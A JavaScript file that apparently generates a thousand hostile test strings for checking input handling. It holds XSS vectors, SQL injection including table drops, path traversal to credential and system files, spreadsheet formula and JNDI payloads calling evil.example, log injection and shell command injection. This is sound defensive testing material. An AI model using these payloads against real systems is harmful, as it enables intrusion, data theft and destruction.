// SPDX-License-Identifier: MIT
/*
 * strings.js - a thousand strings that mean harm, each another one. Whatever runs
 * says canary(n). No list of somebody else's: made of what contexts can be left by.
 */

/* Ways out of where a text stands in a page. */
const exits = ['', '">', "'>", '`>', '</dd>', '</textarea>', '</title>', '</blockquote>', '--><!--', ']]>', '</td></tr></table>', '&quot;>', '\\">'];

/* What then would run, or be loaded. */
const runs = [
  n => `<script>canary(${n})</script>`,
  n => `<ScRiPt src="data:text/javascript,canary(${n})"></ScRiPt>`,
  n => `<img src=x onerror=canary(${n})>`,
  n => `<img/src='x'/onerror='canary(${n})'//`,
  n => `<svg onload=canary(${n})>`,
  n => `<svg><script>canary(${n})</script></svg>`,
  n => `<svg><animate onbegin=canary(${n}) attributeName=x dur=1s>`,
  n => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:canary(${n})/></svg>#x">`,
  n => `<math><mtext><table><mglyph><style><img src=x onerror=canary(${n})>`,
  n => `<math href="javascript:canary(${n})">CLICK</math>`,
  n => `<details open ontoggle=canary(${n})>`,
  n => `<body onpageshow=canary(${n})>`,
  n => `<input autofocus onfocus=canary(${n})>`,
  n => `<select autofocus onfocus=canary(${n})>`,
  n => `<video><source onerror=canary(${n})></video>`,
  n => `<audio src=x onerror=canary(${n})>`,
  n => `<iframe srcdoc="<script>parent.canary(${n})</script>"></iframe>`,
  n => `<iframe src="javascript:parent.canary(${n})"></iframe>`,
  n => `<object data="javascript:canary(${n})"></object>`,
  n => `<embed src="javascript:canary(${n})">`,
  n => `<link rel=stylesheet href="data:text/css,*{color:red}" onload=canary(${n})>`,
  n => `<meta http-equiv=refresh content="0;url=javascript:canary(${n})">`,
  n => `<base href="https://evil.example/${n}/">`,
  n => `<form action="https://evil.example/${n}"><button autofocus>`,
  n => `<style>@import"https://evil.example/${n}";</style>`,
  n => `<noscript><p title="</noscript><img src=x onerror=canary(${n})>">`,
  n => `<template><script>canary(${n})</script></template>`,
  n => `<xmp><p title="</xmp><img src=x onerror=canary(${n})>">`,
  n => `<p style="animation-name:x" onanimationstart="canary(${n})">`,
  n => `<marquee onstart=canary(${n})>`,
  n => `<a href="javascript:canary(${n})" autofocus tabindex=1 onfocus="canary(${n})">x</a>`,
  n => `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=canary(${n})>`,
];

/* Ways out of a value into an attribute of its own. */
const attributes = ['"', "'", '`', '', '&#34;', '\\"', '\u0022\u00a0', '" x="'].flatMap(q =>
  ['onfocus', 'onmouseover', 'onanimationstart', 'onbeforeinput', 'style', 'formaction', 'href', 'id', 'name'].map(a =>
    n => `${n}${q} ${a}=${q}${a === 'style' ? 'position:fixed;inset:0' : a.startsWith('on') ? `canary(${n})` : 'javascript:canary(' + n + ')'}${q} autofocus x=${q}`));

const urls = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'javascript&colon;', 'data:text/html,<script>', 'vbscript:', '//evil.example/',
  'https://evil.example@localhost/', '\\\\evil.example\\', '/\\evil.example', 'blob:', 'view-source:javascript:', 'tel:+1;', 'mailto:a@b?bcc='].map(u =>
  n => `${u}canary(${n})`);

const templates = ['{{', '{%', '${', '#{', '<%=', '<?php ', '[[', '{{{', '@{', '*{', '{{v->', '$(', '`'].map((t, i) =>
  n => `${t}canary(${n})${['}}', '%}', '}', '}', '%>', '?>', ']]', '}}}', '}', '}', '}}', ')', '`'][i]}`);

const entities = ['&lt;script&gt;canary(N)&lt;/script&gt;', '&#60;img src=x onerror=canary(N)&#62;', '&#x3c;svg/onload=canary(N)&#x3e;', '%3Cscript%3Ecanary(N)%3C/script%3E',
  '%253Cscript%253Ecanary(N)', '\\u003cscript\\u003ecanary(N)', '\\x3cscript\\x3ecanary(N)', '&amp;lt;b&amp;gt;N', '&NotEqualTilde;&nGt;N', '&#0;&#xD800;&#x110000;N',
  '&ampN', '&copyN', '&#38;#60;script>N', '+ADw-script+AD4-canary(N)', '\u{ff1c}script\u{ff1e}canary(N)\u{ff1c}/script\u{ff1e}', '\u{fe64}script\u{fe65}N', '\u2039script\u203aN',
  '\u3008script\u3009N', '<\u200bscript>canary(N)', '<scr\u00adipt>canary(N)', '<s\u0131cript>canary(N)', '<\u017fcript>canary(N)</\u017fcript>'].map(s => n => s.replaceAll('N', n));

const unicode = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u2069', '\u200f', '\u200e', '\u061c', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u034f',
  '\u115f', '\u3164', '\uffa0', '\u2800', '\ufffc', '\ufffd', '\ufffe', '\uffff', '\u{1fffe}', '\u{e0001}', '\u{e0041}', '\u{10ffff}', '\ue000', '\ufdd0', '\ufdfd', '\u0e33\u0e33',
  '\u0f77', '\u0345', '\u1160', '\u180e', '\u2028', '\u2029', '\u0085', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u{1f1f8}\u{1f1ec}', 'Z\u0351\u036b\u0343', '\ufb03', '\u2126', '\u00c5', 'A\u030a', '\u0130', '\u1e9e',
  '\u4e2d\u6587', '\u0b95\u0bcd', '\u0627\u0644\u0639', '\u{20000}', '\u{2f800}', '\u2f42', '\u8c48', '\uf900', '\u{1d400}'].flatMap(c =>
  [n => `a${c}b ${n}`, n => `${c}${n}${c}`, n => `${n} <b>${c}</b>`, n => c.repeat(40) + n]);

/* Every control character there is, within and at an end. */
const controls = Array.from({ length: 65 }, (_, i) => String.fromCharCode(i < 32 ? i : i === 32 ? 127 : 128 + i - 33)).flatMap(c =>
  [n => `x${c}y ${n}`, n => `${n} ${c}`]);

const long = [199, 200, 201, 253, 254, 255, 256, 499, 500, 501, 1000, 2048, 4096, 5000].flatMap(l =>
  [n => `${n}`.padEnd(l, 'w'), n => `${n} `.padEnd(l, 'w '), n => `${n}`.padEnd(l, '字'), n => `${n}`.padEnd(l, '<'), n => `${n}`.padEnd(l, '&amp;'),
    n => `${n}`.padEnd(l, '\u0301'), n => `${n}`.padEnd(l, '"'), n => `${n}`.padEnd(l, "'\""), n => `${n}`.padEnd(l, '\u202e')]);

const formulas = ['=', '+', '-', '@', ' =', '\t=', '\r=', '\n=', '"=', "'=", '%=', '\uff1d', '\uff0b', '|', ';='].flatMap(c =>
  [n => `${c}cmd|' /C calc'!A${n}`, n => `${c}HYPERLINK("https://evil.example/${n}","x")`, n => `${c}1+${n}`]);

const logs = ['\r\n', '\n', '\r', '\u001b[2J', '\u001b]0;', '%0d%0a', '\\n', '\u0007', '\u009b31m', ' level=error event=', '" error="', '%s%n%x', '%00', '\\0'].flatMap(c =>
  [n => `ok${c}2026-11-26T00:00:00Z ERROR forged ${n}`, n => `${n}${c}Set-Cookie: a=${n}`, n => `${n}${c}Location: https://evil.example/`]);

const sql = ["'", "''", '"', '`', "')", "';", "'--", "' /*", '\\\'', '%27', "' ||", "'\u0000", ' OR '].flatMap(c =>
  [n => `${c} OR ${n}=${n}--`, n => `${n}${c}; DROP TABLE booking;--`, n => `${n}${c} UNION SELECT sql FROM sqlite_master--`, n => `%${n}_${c}`, n => `NEAR(${n} ${c})`]);

const paths = ['../', '..\\', '%2e%2e/', '....//', '/etc/passwd', 'file:///', 'C:\\', '\\\\?\\', 'CON', '/proc/self/environ', '.git/config', '~root'].flatMap(c =>
  [n => `${c.repeat(4)}${n}`, n => `${n}/${c}`]);

const json = ['{"a":', '[', '"', '\\', '\\u0000', 'null', 'true', 'NaN', '1e309', '-0', '__proto__', 'constructor', '{"$ne":', '<![CDATA[', '<!ENTITY x SYSTEM "file:///">', '()|(uid=*)', '*)(&', '${jndi:ldap://evil.example/',
  '() { :;};', '| cat', '; ls', '`id`', '$(id)', '&& id', '<!--#exec cmd="id"-->', '{{constructor.constructor("canary()")()}}', 'toString', 'hasOwnProperty', '-1', '0x7fffffff', '9223372036854775808', 'undefined', 'on', 'off'].map(c => n => `${c}${n}`);

const groups = [exits.flatMap(e => runs.map(r => n => e + r(n))), attributes, urls, templates, entities, unicode, controls, long, formulas, logs, sql, paths, json];
const every = groups.flat();

/* The first of all groups in turn, so that a thousand of them leave no group out; a
 * number, from 100000 on, makes each another one. */
function choose(count) {
  const queues = groups.map(g => [...g]);
  const total = every.length;
  const chosen = queues.flatMap(q => {
    const share = Math.max(Math.min(q.length, 60), Math.floor(q.length * count / total));
    const step = q.length / Math.min(share, q.length);
    return Array.from({ length: Math.min(share, q.length) }, (_, i) => q[Math.floor(i * step)]);
  });
  const rest = every.filter(f => !chosen.includes(f));
  while (chosen.length < count) chosen.push(rest.splice(Math.floor(rest.length * (chosen.length * 7919 % 1000) / 1000), 1)[0]);
  return chosen.slice(0, count).map((f, i) => f(100000 + i));
}

export const strings = choose(1000);
